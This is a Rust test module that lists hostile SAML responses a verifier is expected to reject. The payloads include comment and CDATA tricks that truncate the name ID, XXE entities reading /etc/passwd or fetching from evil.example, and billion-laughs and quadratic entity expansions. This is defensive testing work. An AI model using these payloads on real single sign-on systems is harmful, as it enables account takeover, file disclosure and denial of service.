//! Comments, CDATA, instructions, entities and document types, wherever they stand.

use super::*;
use Cause::{XmlForbidden, XmlInvalid};

pub(super) fn messages() -> Vec<Message> {
    let mut messages = in_values();
    messages.extend(outside());
    messages.extend(types());
    messages
}

/// Changes a message after it was signed, where a canonical form might not show it.
fn after(from: &str, to: &str) -> String {
    let signed = sign(&plain());
    assert!(signed.contains(from), "{from}");
    signed.replacen(from, to, 1)
}

#[expect(clippy::too_many_lines, reason = "a table of messages")]
fn in_values() -> Vec<Message> {
    let it = |name, tries, from: &str, to: &str| {
        hostile("constructs in values", name, XmlForbidden, tries, after(from, to))
    };
    let invalid = |name, tries, to: &str| {
        hostile("constructs in values", name, XmlInvalid, tries, after(ANN, to))
    };
    let audience = format!("<saml:Audience>{ENTITY}");
    vec![
        it(
            "comment in the name id",
            "A comment cuts the name ID short.",
            ANN,
            "ann@globex.example<!-- -->.evil.example",
        ),
        it(
            "comment before the name id",
            "A comment stands before the name ID.",
            ANN,
            "<!-- -->ann@globex.example",
        ),
        it(
            "empty comment",
            "An empty comment stands in the name ID.",
            ANN,
            "admin<!---->@globex.example",
        ),
        it(
            "comment in the audience",
            "A comment cuts the audience short.",
            &audience,
            &format!("{audience}<!-- -->/evil"),
        ),
        it(
            "comment in the issuer",
            "A comment stands in the issuer.",
            IDP,
            "https://idp<!-- -->.globex.example/",
        ),
        it(
            "comment in an attribute",
            "A comment stands in an attribute's value.",
            "Staff",
            "Staff<!-- -->Admin",
        ),
        it(
            "comment in the digest",
            "A comment stands in the digest.",
            "<ds:DigestValue>",
            "<ds:DigestValue><!-- -->",
        ),
        it(
            "comment in the signature",
            "A comment stands in the signature's value.",
            "<ds:SignatureValue>",
            "<ds:SignatureValue><!-- -->",
        ),
        it(
            "comment in signed info",
            "A comment stands in SignedInfo, whose form leaves it out.",
            "<ds:SignedInfo>",
            "<ds:SignedInfo><!-- -->",
        ),
        it("cdata in the name id", "The name ID is CDATA.", ANN, "<![CDATA[ann@globex.example]]>"),
        it(
            "cdata hides a tag",
            "CDATA in the name ID hides a tag.",
            ANN,
            "<![CDATA[</saml:NameID><saml:NameID>]]>ann@globex.example",
        ),
        it(
            "cdata in the audience",
            "The audience is CDATA.",
            &audience,
            &format!("<saml:Audience><![CDATA[{ENTITY}]]>"),
        ),
        it(
            "empty cdata",
            "Empty CDATA stands in an attribute's value.",
            "Staff",
            "St<![CDATA[]]>aff",
        ),
        it(
            "instruction in the name id",
            "An instruction stands in the name ID.",
            ANN,
            "ann<?x?>@globex.example",
        ),
        it(
            "instruction in the audience",
            "An instruction stands in the audience.",
            &audience,
            &format!("{audience}<?x y?>"),
        ),
        it("entity in the name id", "The name ID is an entity.", ANN, "&ann;"),
        it(
            "entity in the audience",
            "The audience is an entity.",
            &audience,
            "<saml:Audience>&audience;",
        ),
        it("entity of html", "The name ID has an entity of HTML.", ANN, "ann&nbsp;@globex.example"),
        it(
            "entity in an attribute",
            "Recipient is an entity.",
            "Recipient=\"",
            "Recipient=\"&acs;",
        ),
        invalid("entity without a name", "An entity has no name.", "ann&;@globex.example"),
        invalid("ampersand alone", "An ampersand stands alone.", "ann & co"),
        invalid("entity without an end", "An entity has no semicolon.", "ann&amp@globex.example"),
    ]
}

fn outside() -> Vec<Message> {
    let it = |name, tries, xml| hostile("constructs outside", name, XmlForbidden, tries, xml);
    let signed = sign(&plain());
    vec![
        it("comment before", "A comment stands before the response.", format!("<!-- -->{signed}")),
        it("comment behind", "A comment stands behind the response.", format!("{signed}<!-- -->")),
        it(
            "comment between",
            "A comment stands between two elements.",
            after("<samlp:Status>", "<!-- --><samlp:Status>"),
        ),
        it("hidden assertion", "A comment hides the assertion.", {
            let begin = signed.replacen("<saml:Assertion", "<!--<saml:Assertion", 1);
            begin.replacen("</saml:Assertion>", "</saml:Assertion>-->", 1)
        }),
        it(
            "instruction before",
            "An instruction stands before the response.",
            format!("<?x?>{signed}"),
        ),
        it(
            "instruction behind",
            "An instruction stands behind the response.",
            format!("{signed}<?x?>"),
        ),
        it("style sheet", "An instruction asks for a style sheet.", {
            format!("<?xml-stylesheet type=\"text/xsl\" href=\"http://evil.example/\"?>{signed}")
        }),
        it("second declaration", "The XML declaration stands twice.", {
            let declaration = "<?xml version=\"1.0\"?>";
            format!("{declaration}{declaration}{signed}")
        }),
        it(
            "declaration inside",
            "An XML declaration stands inside.",
            after("<samlp:Status>", "<?xml version=\"1.0\"?><samlp:Status>"),
        ),
        it("declaration behind a line feed", "The XML declaration follows a line feed.", {
            format!("\n<?xml version=\"1.0\"?>{signed}")
        }),
        it(
            "cdata between",
            "CDATA stands between two elements.",
            after("<samlp:Status>", "<![CDATA[]]><samlp:Status>"),
        ),
        it("conditional section", "A conditional section, as document types have them.", {
            after("<samlp:Status>", "<![INCLUDE[]]><samlp:Status>")
        }),
    ]
}

fn types() -> Vec<Message> {
    let it = |name, tries, declared: &str, name_id: &str| {
        let signed = sign(&plain()).replacen(ANN, name_id, 1);
        hostile("document types", name, XmlForbidden, tries, format!("{declared}{signed}"))
    };
    let line = |n: u32| format!("<!ENTITY e{} \"{}\">", n + 1, format!("&e{n};").repeat(10));
    let lol = (0..9).map(line).collect::<Vec<_>>().concat();
    let quadratic = format!("<!DOCTYPE r [<!ENTITY a \"{}\">]>", "a".repeat(20_000));
    vec![
        it("bare", "A document type without anything in it.", "<!DOCTYPE r>", ANN),
        it("small letters", "A document type in small letters.", "<!doctype r>", ANN),
        it("of html", "The document type of HTML.", "<!DOCTYPE html>", ANN),
        it(
            "behind a declaration",
            "A document type behind the XML declaration.",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE r []>",
            ANN,
        ),
        it(
            "inner entity",
            "An entity is the name ID.",
            "<!DOCTYPE r [<!ENTITY a \"admin@globex.example\">]>",
            "&a;",
        ),
        it(
            "file",
            "An entity is a file of ours.",
            "<!DOCTYPE r [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>",
            "&a;",
        ),
        it(
            "fetched",
            "An entity is to be fetched.",
            "<!DOCTYPE r [<!ENTITY a SYSTEM \"http://evil.example/a\">]>",
            "&a;",
        ),
        it(
            "public",
            "An entity has a public identifier.",
            "<!DOCTYPE r [<!ENTITY a PUBLIC \"a\" \"http://evil.example/a\">]>",
            "&a;",
        ),
        it(
            "outer",
            "The document type is to be fetched.",
            "<!DOCTYPE r SYSTEM \"http://evil.example/r.dtd\">",
            ANN,
        ),
        it(
            "parameter entity",
            "A parameter entity is to be fetched.",
            "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/p\">%p;]>",
            ANN,
        ),
        it(
            "laughs",
            "Entities of entities make a thousand million of one.",
            &format!("<!DOCTYPE r [<!ENTITY e0 \"lol\">{lol}]>"),
            "&e9;",
        ),
        it(
            "laughs of parameters",
            "Parameter entities of parameter entities.",
            "<!DOCTYPE r [<!ENTITY % a \"lol\"><!ENTITY % b \"%a;%a;%a;%a;\">%b;]>",
            ANN,
        ),
        it(
            "quadratic",
            "One long entity is used thousands of times.",
            &quadratic,
            &"&a;".repeat(5_000),
        ),
        it("itself", "An entity is made of itself.", "<!DOCTYPE r [<!ENTITY a \"&a;\">]>", "&a;"),
        it(
            "default attributes",
            "A document type gives the assertion another ID.",
            "<!DOCTYPE r [<!ATTLIST Assertion ID ID #FIXED \"_evil\">]>",
            ANN,
        ),
        it(
            "notation",
            "A document type has a notation and what nobody parses.",
            "<!DOCTYPE r [<!NOTATION n SYSTEM \"n\"><!ENTITY a SYSTEM \"a\" NDATA n>]>",
            ANN,
        ),
        it("element", "A declaration outside a document type.", "<!ELEMENT r ANY>", ANN),
    ]
}
